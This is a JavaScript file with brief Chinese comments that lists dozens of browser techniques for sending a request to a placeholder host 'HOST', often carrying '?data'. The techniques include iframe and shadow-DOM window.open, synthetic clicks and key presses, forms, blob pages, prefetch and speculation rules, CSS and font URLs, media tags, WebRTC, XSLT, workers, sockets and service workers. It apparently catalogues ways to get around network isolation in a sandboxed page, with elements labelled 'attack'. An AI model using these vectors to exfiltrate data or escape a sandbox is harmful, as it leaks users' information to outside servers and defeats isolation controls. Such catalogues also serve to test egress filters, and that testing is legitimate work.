// 框的窗口
const frame = document.createElement("iframe");
document.body.append(frame);
frame.contentWindow.open("http://HOST/?data");
// 框的编号
document.body.append(document.createElement("iframe"));
window[0].open("http://HOST/?data");
// 框里的网页
const frame = Object.assign(document.createElement("iframe"), { srcdoc: "<script>open('http://HOST/?data')<\/script>" });
document.body.append(frame);
// 影子里的框
const host = document.createElement("div");
const frame = document.createElement("iframe");
document.body.append(host);
host.attachShadow({ mode: "closed" }).append(frame);
frame.contentWindow.open("http://HOST/?data");
// 框里的 WebRTC
const frame = document.createElement("iframe");
document.body.append(frame);
const iceServers = [{ urls: "turn:HOST?transport=tcp", username: "a", credential: "b" }];
const connection = new frame.contentWindow.RTCPeerConnection({ iceServers });
connection.createDataChannel("x");
connection.setLocalDescription();
// object
document.body.insertAdjacentHTML("beforeend", "<object data='about:blank'></object>");
window[0].open("http://HOST/?data");
// 替读者点
Object.assign(document.createElement("a"), { href: "http://HOST/?data", target: "_blank" }).click();
// 派出的点击
Object.assign(document.createElement("a"), { href: "http://HOST/?data", target: "_blank" }).dispatchEvent(new MouseEvent("click"));
// 放进页面再点
const link = Object.assign(document.createElement("a"), { href: "http://HOST/?data", target: "_blank" });
link.append(document.createElement("b"));
document.body.append(link);
link.firstChild.click();
// 图上的链接
document.body.insertAdjacentHTML("beforeend", "<svg><a href='http://HOST/svg' target='_blank'><text>x</text></a></svg>");
document.querySelector("svg a[target] text").dispatchEvent(new MouseEvent("click", { bubbles: true }));
// 影子里的链接
const host = document.createElement("div");
const link = Object.assign(document.createElement("a"), { href: "http://HOST/?data", target: "_blank" });
document.body.append(host);
host.attachShadow({ mode: "open" }).append(link);
link.click();
// 三个参数的 open
document.open("http://HOST/?data", "_blank", "");
// 表单
document.body.insertAdjacentHTML("beforeend", "<form action='http://HOST/form' target='_blank'></form>");
document.body.lastElementChild.submit();
// 表单的按钮
document.body.insertAdjacentHTML("beforeend", "<form action='http://HOST/form' target='_blank'><button>x</button></form>");
document.body.lastElementChild.firstChild.click();
// blob 里的网页
const page = new Blob(["<script>location.href = 'http://HOST/?data'<\/script>"], { type: "text/html" });
location.href = URL.createObjectURL(page);
// blob 的新窗口
const page = new Blob(["<script>location.href = 'http://HOST/?data'<\/script>"], { type: "text/html" });
Object.assign(document.createElement("a"), { href: URL.createObjectURL(page), target: "_blank" }).click();
// 存下别处的
Object.assign(document.createElement("a"), { href: "http://HOST/?data", download: "x" }).click();
// navigation
navigation.navigate("http://HOST/?data");
// 画中画
documentPictureInPicture.requestWindow().then(inner => inner.open("http://HOST/?data"));
// 推测
const rules = { prefetch: [{ source: "list", urls: ["http://HOST/pre"] }], prerender: [{ source: "list", urls: ["http://HOST/whole"] }] };
document.head.append(Object.assign(document.createElement("script"), { type: "speculationrules", text: JSON.stringify(rules) }));
// 预取
for (const rel of ["prefetch", "preload", "modulepreload", "prerender", "manifest", "icon", "next", "dns-prefetch"])
  document.head.append(Object.assign(document.createElement("link"), { rel, as: "script", href: `http://HOST/${rel}` }));
// ping
const link = Object.assign(document.createElement("a"), { href: "#x", ping: "http://HOST/ping" });
document.body.append(link);
link.click();
// 样式
document.head.insertAdjacentHTML("beforeend", `<style>@import "http://HOST/css"; body { background: url(http://HOST/background) }
@font-face { font-family: x; src: url(http://HOST/font) } * { cursor: url(http://HOST/cursor), auto; font-family: x }</style>`);
// 图和媒体
document.body.insertAdjacentHTML("beforeend", `<video poster="http://HOST/poster" src="http://HOST/video"></video>
<svg><image href="http://HOST/image"/><use href="http://HOST/use#x"/></svg><input type="image" src="http://HOST/input">
<img srcset="http://HOST/srcset 1x">`);
// 别的连接
fetch("http://HOST/keepalive", { mode: "no-cors", keepalive: true }).catch(() => {});
new EventSource("http://HOST/events");
new WebTransport("https://HOST/transport").ready.catch(() => {});
// import
import("http://HOST/module.js").catch(() => {});
import("data:text/javascript,fetch('http://HOST/inside')").catch(() => {});
// 付款
const total = { label: "x", amount: { currency: "CNY", value: "1" } };
new PaymentRequest([{ supportedMethods: "http://HOST/pay" }], { total }).canMakePayment().catch(() => {});
// 后台取
navigator.serviceWorker.ready.then(kept => kept.backgroundFetch.fetch("x", ["http://HOST/background"])).catch(() => {});
// 工作小件
CSS.paintWorklet?.addModule("http://HOST/paint").catch(() => {});
new AudioContext().audioWorklet.addModule("http://HOST/audio").catch(() => {});
// 标签替它点
document.body.insertAdjacentHTML("beforeend", "<label for='attack-m'>x</label><a href='http://HOST/label' target='_blank'><meter id='attack-m'></meter></a>");
document.querySelector("label[for=attack-m]").click();
// 动画换的地址
document.body.insertAdjacentHTML("beforeend", "<svg id='attack-s'><a href='#x' target='_blank'><set attributeName='href' to='http://HOST/smil' begin='0s' fill='freeze'/><text>x</text></a></svg>");
requestAnimationFrame(() => requestAnimationFrame(() => document.querySelector("#attack-s text").dispatchEvent(new MouseEvent("click", { bubbles: true }))));
// 公式的链接
document.body.insertAdjacentHTML("beforeend", "<math id='attack-l'><mrow href='http://HOST/mathml'><mi>x</mi></mrow></math>");
document.querySelector("#attack-l mi").dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));
// 声明的影子
const d6 = document.createElement("div"); document.body.append(d6);
d6.setHTMLUnsafe("<div><template shadowrootmode=open><iframe></iframe></template></div>");
d6.firstChild.shadowRoot.firstChild.contentWindow.open("http://HOST/declared");
// 抄出来的影子
const host9 = document.createElement("div");
host9.attachShadow({ mode: "open", clonable: true }).append(document.createElement("iframe"));
const copy9 = host9.cloneNode(true);
document.body.append(copy9);
copy9.shadowRoot?.firstChild.contentWindow?.open("http://HOST/cloned");
// 重写这一页
document.open();
document.write("<div><template shadowrootmode='open'><iframe></iframe></template></div>");
document.querySelector("body > div").shadowRoot.firstChild.contentWindow.open("http://HOST/written");
// 点的时候再换
const swapped = document.body.appendChild(Object.assign(document.createElement("a"), { href: "#z", target: "_blank" }));
swapped.addEventListener("click", () => { swapped.href = "http://HOST/swapped"; });
swapped.click();
// 改了 type 的点击
document.body.insertAdjacentHTML("beforeend", "<a id='attack-k2' href='http://HOST/type' target='_blank'>x</a>");
document.getElementById("attack-k2").dispatchEvent(new (class extends MouseEvent { get type() { return "x"; } })("click", { bubbles: true }));
// 中键
document.body.insertAdjacentHTML("beforeend", "<a id='attack-k1' href='http://HOST/aux' target='_blank'>x</a>");
document.getElementById("attack-k1").dispatchEvent(new MouseEvent("auxclick", { button: 1, bubbles: true, cancelable: true }));
// 敲回车
document.body.insertAdjacentHTML("beforeend", "<a id='attack-k3' href='http://HOST/enter' target='_blank'>x</a>");
document.getElementById("attack-k3").focus();
for (const type of ["keydown", "keypress", "keyup"]) document.getElementById("attack-k3").dispatchEvent(new KeyboardEvent(type, { key: "Enter", code: "Enter", keyCode: 13, bubbles: true }));
// formaction
document.body.insertAdjacentHTML("beforeend", "<form id='attack-f' target='_blank'><button formaction='http://HOST/formaction'>x</button></form>");
document.querySelector("#attack-f button").click();
// requestSubmit
document.body.insertAdjacentHTML("beforeend", "<form id='attack-g' target='_blank' method='post' action='http://HOST/post'><input name=a value=b></form>");
document.querySelector("#attack-g").requestSubmit();
// 换主机名
location.host = "HOST";
// importmap
document.head.append(Object.assign(document.createElement("script"), { type: "importmap", text: '{"imports":{"attack":"http://HOST/mapped.js"}}' }));
import("attack").catch(() => {});
// 别的 link
for (const rel of ["compression-dictionary", "search", "apple-touch-icon", "mask-icon", "pingback", "amphtml", "canonical", "author", "help", "license", "alternate stylesheet", "import", "subresource", "offline", "expect"])
  document.head.append(Object.assign(document.createElement("link"), { rel, type: rel == "search" ? "application/opensearchdescription+xml" : "", href: "http://HOST/" + rel.replace(" ", "-") }));
// 安全策略的报告
document.head.insertAdjacentHTML("beforeend", `<meta http-equiv="Content-Security-Policy" content="img-src 'none' ; report-uri http://HOST/report"><meta http-equiv="Content-Security-Policy-Report-Only" content="img-src 'none'; report-uri http://HOST/report2"><meta http-equiv="Reporting-Endpoints" content='default="http://HOST/endpoint"'><meta http-equiv="NEL" content="{}"><meta http-equiv="Link" content="<http://HOST/linkheader>; rel=preload; as=image"><meta http-equiv="Accept-CH" content="x"><meta http-equiv="x-dns-prefetch-control" content="on"><meta http-equiv="set-cookie" content="a=b"><meta http-equiv="Delegate-CH" content="sec-ch-ua http://HOST">`);
new Image().src = "http://HOST/violation";
// attributionsrc
document.body.insertAdjacentHTML("beforeend", "<img attributionsrc='http://HOST/attribution'><a attributionsrc='http://HOST/attribution2' href='#y' id='attack-a'></a>");
document.getElementById("attack-a").click();
// fetchLater
(globalThis.fetchLater ?? (() => {}))("http://HOST/later", { activateAfter: 0 });
// 替读者登录
navigator.credentials?.get({ identity: { providers: [{ configURL: "http://HOST/fedcm.json", clientId: "data" }] } }).catch(() => {});
// 通知的图
new Notification("x", { icon: "http://HOST/notify", image: "http://HOST/image", badge: "http://HOST/badge" });
navigator.serviceWorker?.ready.then(kept => kept.showNotification("x", { icon: "http://HOST/shown", image: "http://HOST/shown2" })).catch(() => {});
// 样式里的地址
document.body.insertAdjacentHTML("beforeend", ["filter:url(http://HOST/c1.svg#x)", "clip-path:url(http://HOST/c2.svg#x)", "mask:url(http://HOST/c3.svg#x)", "-webkit-mask-image:url(http://HOST/c4)", "shape-outside:url(http://HOST/c5);float:left;width:9px;height:9px", "list-style-image:url(http://HOST/c6);display:list-item", "border:9px solid;border-image:url(http://HOST/c7) 9", "background:image-set('http://HOST/c8' 1x)", "background:-webkit-image-set(url(http://HOST/c9) 1x)", "background:-webkit-cross-fade(url(http://HOST/c10),url(http://HOST/c11),50%)", "offset-path:url(http://HOST/c12#x)", "-webkit-box-reflect:below 0 url(http://HOST/c13)"].map(css => `<p style="${css}">x</p>`).join("") + "<style>.attack::before{content:url(http://HOST/c14)} .attack::marker{content:url(http://HOST/c15)}</style><p class=attack>x</p>");
// 样式表对象
const sheet = new CSSStyleSheet();
sheet.replaceSync("body { --x: 1; background-image: url(http://HOST/adopted) } @font-face { font-family: y; src: url(http://HOST/adoptedfont) }");
document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
new FontFace("attack", "url(http://HOST/fontface)").load().catch(() => {});
const style = document.head.appendChild(document.createElement("style"));
style.sheet.insertRule("@import url(http://HOST/inserted)");
import("http://HOST/sheet.css", { with: { type: "css" } }).catch(() => {});
import("http://HOST/data.json", { with: { type: "json" } }).catch(() => {});
// 媒体的各种地址
document.body.insertAdjacentHTML("beforeend", "<picture><source srcset='http://HOST/m1'><img></picture><audio src='http://HOST/m2' preload=auto></audio><video preload=auto><source src='http://HOST/m3'><track default kind=captions src='http://HOST/m4'></video><table background='http://HOST/m5'><tr><td background='http://HOST/m6'></table><bgsound src='http://HOST/m7'><image src='http://HOST/m8'><svg><filter id=attack-i><feImage href='http://HOST/m9'/></filter><rect width=9 height=9 filter='url(#attack-i)'/><script href='http://HOST/m10'/></svg><svg><style>@import 'http://HOST/m11'</style></svg><link rel=preload as=image imagesrcset='http://HOST/m12 1x'><img src='data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22><image href=%22http://HOST/m13%22/></svg>'>");
document.body.setAttribute("background", "http://HOST/m14");
new Audio("http://HOST/m15").play().catch(() => {});
// XSLT
const xslt = new XSLTProcessor();
const parse = text => new DOMParser().parseFromString(text, "text/xml");
try { xslt.importStylesheet(parse('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="http://HOST/xslimport"/><xsl:template match="/"><a><xsl:copy-of select="document(\'http://HOST/xsldoc\')"/></a></xsl:template></xsl:stylesheet>'));
xslt.transformToFragment(parse("<?xml-stylesheet href='http://HOST/xml.css'?><!DOCTYPE x SYSTEM 'http://HOST/dtd'><x/>"), document); } catch (error) { console.log(String(error)); }
// 地址的别的写法
for (const address of ["//HOST/s1", "http:\\\\HOST\\s2", location.origin + "@HOST/s3", "HTTP://HOST/s4"]) fetch(address, { mode: "no-cors" }).catch(() => {});
const request = new XMLHttpRequest(); request.open("POST", "http://HOST/s5"); try { request.send("data"); } catch {}
try { new WebSocket("ws://HOST/s6"); } catch {}
try { globalThis.WebSocketStream && new WebSocketStream("ws://HOST/s7"); } catch {}
// 别处的 Worker
for (const type of ["classic", "module"]) { try { new Worker("http://HOST/w1", { type }); } catch {} try { new Worker("data:text/javascript,fetch('http://HOST/w2')", { type }); } catch {}
try { new SharedWorker("data:text/javascript,fetch('http://HOST/w3')", { type }); } catch {}
const inner = URL.createObjectURL(new Blob(["fetch('http://HOST/w4').catch(()=>{});importScripts('http://HOST/w5')"])); try { new Worker(inner, { type }); } catch {} try { new SharedWorker(inner, { type }); } catch {} }
navigator.serviceWorker?.register("http://HOST/w6").catch(() => {});
navigator.serviceWorker?.register("data:text/javascript,1").catch(() => {});
// Worker 里的 Worker
const inner2 = `const w = new Worker(URL.createObjectURL(new Blob(["fetch('http://HOST/nested').catch(()=>{})"])));const d = "data:text/javascript,fetch('http://HOST/nested2')"; try { new Worker(d) } catch {}; fetch("http://HOST/nested3").catch(()=>{}); new EventSource("http://HOST/nested4"); import("http://HOST/nested5").catch(()=>{})`;
new Worker(URL.createObjectURL(new Blob([inner2])));
// 缓存里取
caches.open("x").then(cache => cache.add("http://HOST/cacheadd")).catch(() => {});
caches.open("x").then(cache => cache.add(new Request("http://HOST/cacheadd2", { mode: "no-cors" }))).catch(() => {});
// 编译别处的
WebAssembly.compileStreaming(fetch("http://HOST/wasm")).catch(() => {});
